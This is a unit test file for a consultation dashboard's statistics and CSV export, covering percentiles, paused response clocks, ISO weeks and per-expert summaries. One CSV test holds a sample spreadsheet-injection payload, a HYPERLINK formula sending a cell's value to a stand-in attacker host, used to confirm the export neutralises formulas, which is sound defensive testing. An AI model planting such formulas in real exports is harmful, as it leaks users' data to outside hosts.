import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { expertSummaries, isoWeekOf, nearestRank, outcomeOf, secondsToFirstAnswer, summarise, weeklySummaries, weeksBetween, type PromiseCase } from './promise-stats.ts';
import { csvCell, promiseCsv, type CsvCase } from './dashboard-csv.ts';

const H = 3600;
const TARGET = 24 * H;
const NOW = new Date('2026-11-23T12:00:00Z');

/** A consultation received at `received`, answered `answeredAfterH` hours later (wall clock) or not. */
function aCase(received: string, answeredAfterH: number | null, more: Partial<PromiseCase> = {}): PromiseCase {
  const r = Date.parse(received);
  return {
    id: `c${received}`, reference: `KD-${received.slice(5, 10)}`, receivedAt: received,
    dueAt: new Date(r + TARGET * 1000).toISOString(),
    firstAnsweredAt: answeredAfterH === null ? null : new Date(r + answeredAfterH * H * 1000).toISOString(),
    firstAnsweredBy: answeredAfterH === null ? null : 'expert-a', pausedSeconds: 0, clockPausedAt: null,
    closed: false, closedAt: null, breached: false, ...more,
  };
}

describe('nearest-rank percentiles', () => {
  it('picks the value at rank ⌈p × n⌉', () => {
    const ten = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10];
    assert.equal(nearestRank(ten, 50), 5);
    assert.equal(nearestRank(ten, 90), 9);
    assert.equal(nearestRank(ten, 100), 10);
    assert.equal(nearestRank([7], 50), 7);
    assert.equal(nearestRank([7], 90), 7);
    assert.equal(nearestRank([1, 2, 3], 50), 2);
    assert.equal(nearestRank([1, 2, 3, 4], 50), 2, 'the lower middle of an even count');
    assert.equal(nearestRank([1, 2, 3, 4, 5, 6], 90), 6, 'rank ⌈5.4⌉ = 6, not the nearest 5');
    assert.equal(nearestRank([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11], 90), 10, 'rank ⌈9.9⌉ = 10');
    assert.equal(nearestRank([], 50), undefined);
  });
});

describe('time to first answer and outcome', () => {
  it('excludes paused time and never goes negative', () => {
    assert.equal(secondsToFirstAnswer(aCase('2026-11-02T09:00:00Z', 30, { pausedSeconds: 10 * H })), 20 * H);
    assert.equal(secondsToFirstAnswer(aCase('2026-11-02T09:00:00Z', 1, { pausedSeconds: 5 * H })), 0);
    assert.equal(secondsToFirstAnswer(aCase('2026-11-02T09:00:00Z', null)), null);
  });

  it('sorts consultations into within, late, overdue, pending and withdrawn', () => {
    assert.equal(outcomeOf(aCase('2026-11-02T09:00:00Z', 24), TARGET, NOW), 'within', 'exactly the target is within it');
    assert.equal(outcomeOf(aCase('2026-11-02T09:00:00Z', 24.01), TARGET, NOW), 'late');
    assert.equal(outcomeOf(aCase('2026-11-02T09:00:00Z', 30, { pausedSeconds: 8 * H }), TARGET, NOW), 'within', 'a pause does not count');
    assert.equal(outcomeOf(aCase('2026-11-22T11:00:00Z', null), TARGET, NOW), 'overdue');
    assert.equal(outcomeOf(aCase('2026-11-22T13:00:00Z', null), TARGET, NOW), 'pending');
    // Paused with 2 hours left: not overdue, however long the pause lasts.
    assert.equal(outcomeOf(aCase('2026-11-20T09:00:00Z', null, { clockPausedAt: '2026-11-21T07:00:00Z' }), TARGET, NOW), 'pending');
    assert.equal(outcomeOf(aCase('2026-11-20T09:00:00Z', null, { clockPausedAt: '2026-11-21T10:00:00Z' }), TARGET, NOW), 'overdue');
    assert.equal(outcomeOf(aCase('2026-11-20T09:00:00Z', null, { closed: true, closedAt: '2026-11-20T10:00:00Z' }), TARGET, NOW), 'withdrawn');
    assert.equal(outcomeOf(aCase('2026-11-20T09:00:00Z', null, { closed: true, closedAt: '2026-11-22T10:00:00Z' }), TARGET, NOW), 'overdue');
  });
});

describe('summaries', () => {
  it('counts, shares, median and p90 over answered consultations only', () => {
    const cases = [
      aCase('2026-11-02T09:00:00Z', 2),
      aCase('2026-11-02T10:00:00Z', 4),
      aCase('2026-11-02T11:00:00Z', 10),
      aCase('2026-11-03T09:00:00Z', 30, { breached: true }),
      aCase('2026-11-22T11:00:00Z', null, { breached: true }), // overdue
      aCase('2026-11-23T09:00:00Z', null), // pending
      aCase('2026-11-04T09:00:00Z', null, { closed: true, closedAt: '2026-11-04T10:00:00Z' }), // withdrawn
    ];
    const s = summarise(cases, TARGET, NOW);
    assert.equal(s.received, 7);
    assert.equal(s.answered, 4);
    assert.equal(s.decided, 5);
    assert.equal(s.within, 3);
    assert.equal(s.withinShare, 3 / 5);
    assert.equal(s.medianSeconds, 4 * H);
    assert.equal(s.p90Seconds, 30 * H);
    assert.equal(s.breaches, 2);
    assert.equal(s.awaiting, 2);
    const empty = summarise([], TARGET, NOW);
    assert.equal(empty.withinShare, undefined);
    assert.equal(empty.medianSeconds, undefined);
  });

  it('groups by ISO week of receipt, empty weeks included', () => {
    const weeks = weeklySummaries([aCase('2026-11-02T00:00:00Z', 1), aCase('2026-11-08T23:59:59Z', 30), aCase('2026-11-16T09:00:00Z', 2)],
      new Date('2026-11-01T00:00:00Z'), new Date('2026-11-16T00:00:00Z'), TARGET, NOW);
    assert.deepEqual(weeks.map((w) => [w.week.key, w.summary.received, w.summary.within]),
      [['2026-W44', 0, 0], ['2026-W45', 2, 1], ['2026-W46', 0, 0], ['2026-W47', 1, 1]]);
  });

  it('names ISO weeks across year ends', () => {
    assert.equal(isoWeekOf(new Date('2026-01-01T12:00:00Z')).key, '2026-W01');
    assert.equal(isoWeekOf(new Date('2027-01-01T12:00:00Z')).key, '2026-W53');
    assert.equal(isoWeekOf(new Date('2024-12-30T00:00:00Z')).key, '2025-W01');
    assert.equal(isoWeekOf(new Date('2026-11-22T23:59:59Z')).key, '2026-W47');
    assert.equal(isoWeekOf(new Date('2026-11-23T00:00:00Z')).key, '2026-W48');
    assert.equal(isoWeekOf(new Date('2026-11-25T10:00:00Z')).monday.toISOString(), '2026-11-23T00:00:00.000Z');
    assert.equal(weeksBetween(new Date('2026-12-20T00:00:00Z'), new Date('2027-01-10T00:00:00Z')).map((w) => w.key).join(' '), '2026-W51 2026-W52 2026-W53 2027-W01');
  });

  it('sums up first answers per expert', () => {
    const experts = expertSummaries([
      aCase('2026-11-02T09:00:00Z', 2), aCase('2026-11-02T10:00:00Z', 30), aCase('2026-11-02T11:00:00Z', 6),
      aCase('2026-11-03T09:00:00Z', 5, { firstAnsweredBy: 'expert-b' }), aCase('2026-11-03T10:00:00Z', null),
    ], TARGET);
    assert.deepEqual(experts, [
      { staffId: 'expert-a', firstAnswers: 3, within: 2, withinShare: 2 / 3, medianSeconds: 6 * H },
      { staffId: 'expert-b', firstAnswers: 1, within: 1, withinShare: 1, medianSeconds: 5 * H },
    ]);
  });
});

describe('CSV export', () => {
  it('quotes every cell and neutralises formulas', () => {
    assert.equal(csvCell('plain'), '"plain"');
    assert.equal(csvCell('say "hi", then go'), '"say ""hi"", then go"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${start}1+1`), `"'${start}1+1"`);
    assert.equal(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Open")'), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
    assert.equal(csvCell('line\nbreak'), '"line\nbreak"');
  });

  it('writes one row per consultation with hours, outcome and expert', () => {
    const cases: CsvCase[] = [
      { ...aCase('2026-11-02T09:00:00Z', 30, { pausedSeconds: 10 * H, breached: false }), condition: 'On haemodialysis' },
      { ...aCase('2026-11-22T11:00:00Z', null, { breached: true }), condition: '+cmd' },
    ];
    const csv = promiseCsv(cases, { targetSeconds: TARGET, now: NOW, staffNames: new Map([['expert-a', '@Ann']]) });
    assert.equal(csv, [
      '"reference","received_at","first_answered_at","hours_to_first_answer","paused_hours","within_target","breached","expert","condition"',
      '"KD-11-02","2026-11-02T09:00:00Z","2026-11-03T15:00:00.000Z","20.00","10.00","yes","no","\'@Ann","On haemodialysis"',
      '"KD-11-22","2026-11-22T11:00:00Z","","","0.00","no","yes","","\'+cmd"',
      '',
    ].join('\r\n'));
  });
});
